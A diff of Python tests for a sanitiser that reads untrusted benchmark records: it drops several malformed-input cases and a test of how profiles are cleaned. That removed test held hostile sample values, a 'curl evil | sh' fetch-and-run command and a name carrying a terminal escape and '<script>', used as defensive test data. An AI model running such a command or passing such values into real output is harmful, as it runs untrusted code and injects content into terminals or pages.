@@ -17,7 +17,6 @@ from gate.evidence.records import Located
 from gate.github.untrusted.read import Limits, Seen, read_untrusted
 from gate.github.untrusted.sanitise import claims_of, refuse_unfinished, sanitise
 from gate.model import Build, Commit, Evidence, Execution, Failure, HostState, Look, Run, Same, Turn, UserError, Whose
-from gate.model.profile import Profile, Unprofiled
 from gate.model.records import Choice, How
 from tests.support import runs
 
@@ -112,27 +111,20 @@ def with_key(key: str, value: str) -> bytes:
 DEEP = b"[" * 100_000 + b"]" * 100_000
 BAD: dict[str, tuple[bytes | dict[str, Any], str]] = {
     "NaN": (raw("NaN"), "line 2: not valid JSON"),
-    "Infinity": (raw("-Infinity"), "line 2: not valid JSON"),
     "1e999": (raw("1e999"), "line 2: not valid JSON: it holds NaN, Infinity or a number out of range"),
     "1e300": (raw("1.0, 1e300"), "line 2: time holds 1e+300, which is neither 0 nor of a size from 1e-60 to 1e+60"),
     "denormal": (raw("5e-324"), "line 2: time holds 4.94066e-324"),
     "huge whole number": (raw("1" + "0" * 400), "line 2: metrics.time.values[0]: expected a number, got a number out of range"),
     "large in its unit": (execution(values=[1e74], unit="h"), "line 2: time holds 1e+74"),
-    "true": (raw("true"), "expected a number, got true"),
     "text": (raw('"1"'), 'expected a number, got "1"'),
-    "null": (raw("null"), "expected a number, got null"),
-    "list": (raw("[1]"), "expected a number, got [1]"),
     "dropped": ({**execution(), "metrics": {"time": {"values": [1.0], "dropped": [1e200]}}}, "time holds 1e+200"),
     "session": (execution(session=64), "session is not from 0 to 63"),
     "build": (execution(build=10_000), "build is not from 0 to 9999"),
     "huge build": (with_key("build", "9" * 30), "build: expected a whole number"),
     "execution": (execution(execution=100_000), "execution is not from 0 to 99999"),
     "below 0": (execution(build=-1), "build: expected a whole number of 0 or more, got -1"),
-    "part of a build": (with_key("build", "0.5"), "build: expected a whole number, got 0.5"),
-    "order": (with_key("order", "9" * 30), "order: expected a whole number"),
     "order below 0": (execution(order=-1), "order is not from 0"),
     "seconds below 0": (execution(seconds=-1.0), "seconds is neither 0 nor from 1e-9 to 1e+09"),
-    "many seconds": (execution(seconds=1e30), "seconds is neither"),
     "few seconds": (execution(seconds=1e-200), "seconds is neither"),
     "long name": (execution("n" * 501), "benchmark is longer than 500 characters"),
     "blank name": (execution(" \t"), "benchmark is blank"),
@@ -145,7 +137,6 @@ BAD: dict[str, tuple[bytes | dict[str, Any], str]] = {
     "many factors": (execution(factors={str(i): 1 for i in range(21)}), "more than 20 factors"),
     "half a surrogate": (with_key("suite", '"\\ud800"'), "line 2: not valid JSON"),
     "no UTF-8": (b'{"type":"run","id":"\xff"}\n', "line 2: is not UTF-8"),
-    "UTF-16": ('{"type":"run"}\n'.encode("utf-16"), "line 2: is not UTF-8"),
     "nested": (b'{"type":"run","host":{"a":' + DEEP + b"}}\n", "line 2: "),
     "nested and unknown": (b'{"type":"look","look":1,"zzz":' + DEEP + b"}\n", "line 2: not valid JSON"),
     "unknown type": (b'{"type":"exec\\u0000 <b>@team"}\n', "line 2: unknown type"),
@@ -153,22 +144,13 @@ BAD: dict[str, tuple[bytes | dict[str, Any], str]] = {
     "a report": (b'{"schema":1,"verdict":"pass","findings":[]}\n', "line 2: "),
     "newer": ({"type": "run", "schema": 2}, "schema 2 is newer"),
     "torn": (b'{"type":"look"', "its last line is cut off"),
-    "zeros": (bytes(1000), "its last line is cut off"),
     "something else": (b"PK\x03\x04", "is not a JSON object"),
     "look": ({"type": "look", "look": 10_001}, "look is not from"),
-    "sessions": ({**RUN, "sessions": 65}, "sessions is not from"),
     "of a build": ({"type": "build", "side": "base", "build": 10_000}, "build is not from"),
     "of a failure": ({"type": "failure", "kind": "build", "session": 70}, "session is not from"),
-    "of a profile": (profile(session=70), "session is not from"),
-    "stacks": (profile(stacks=[{"frames": [0], "cost": 1}] * 2001), "more than 2,000 stacks or 4,000 functions"),
-    "functions": (profile(frames=[{"function": "f"}] * 4001), "more than 2,000 stacks or 4,000 functions"),
-    "depth": (profile(stacks=[{"frames": [0] * 121, "cost": 1}]), "a stack is deeper than 120"),
-    "a function's name": (profile(frames=[{"function": "f" * 501}]), "the name of a function is longer"),
     "a cost below zero": (profile(stacks=[{"frames": [0], "cost": -1}]), "expected a number"),
     "a cost beyond numbers": (profile(stacks=[{"frames": [0], "cost": 1e300}]), "expected a number"),
     "a frame that is not there": (profile(stacks=[{"frames": [1], "cost": 1}]), "beyond the 1 of its profile"),
-    "an unknown profiler": (profile(profiler="p" * 101), "profiler is longer"),
-    "why there is none": ({**UNPROFILED, "kind": "k" * 101}, "kind is longer"),
     "of a host": ({"type": "host", "when": "end", "session": 70}, "session is not from"),
 }  # fmt: skip
 
@@ -219,9 +201,8 @@ def test_what_is_too_much_is_refused_before_it_is_read(data: Callable[[], bytes]
         ),
         (Limits(looks=2), [{"type": "look", "look": i} for i in (1, 2, 2, 3)], "line 4: there are more than 2 looks"),
         (Limits(runs=2), [RUN] * 3, "line 3: there are more than 2 run lines"),
-        (Limits(profiles=2), [profile(), UNPROFILED, profile()], "line 3: there are more than 2 profiles"),
     ],
-    ids=["values", "benchmarks", "cases", "looks", "runs", "profiles"],
+    ids=["values", "benchmarks", "cases", "looks", "runs"],
 )
 def test_counts_are_limited(limits: Limits, lines: list[dict[str, Any]], why: str) -> None:
     with pytest.raises(UserError, match=why):
@@ -344,17 +325,8 @@ def test_of_proofs_the_paths_are_cut_and_only_known_benchmarks_stay() -> None:
     assert {f.benchmark for f in missing} == {"parse", "render", "go"}
 
 
-def test_profiles_keep_their_costs_and_plain_short_texts() -> None:
-    hostile = {"function": "f\x1b[2J<script>" + "x" * 400, "file": "a\nb"}
-    why = {**UNPROFILED, "install": "curl evil | sh\n", "detail": "d" * 4000}
-    lines = [RUN, profile(frames=[hostile], tool="t" * 500, unit="u"), why, profile("unknown")]
-    records = sane(lines)
-    found = only(records, Profile)
-    assert found.stacks[0].cost == 5.0
-    texts = [found.frames[0].function, found.frames[0].file, found.tool]
-    assert all(text.isprintable() and len(text) <= 300 for text in texts)
-    none = only(records, Unprofiled)
-    assert none.install.isprintable() and len(none.detail) <= 200
+def test_profiles_are_for_the_report_of_the_run_itself() -> None:
+    assert [type(each.record) for each in sane([RUN, profile(), UNPROFILED])] == [Run]
 
 
 def test_texts_of_failures_are_cut_and_what_nobody_needs_is_gone() -> None:
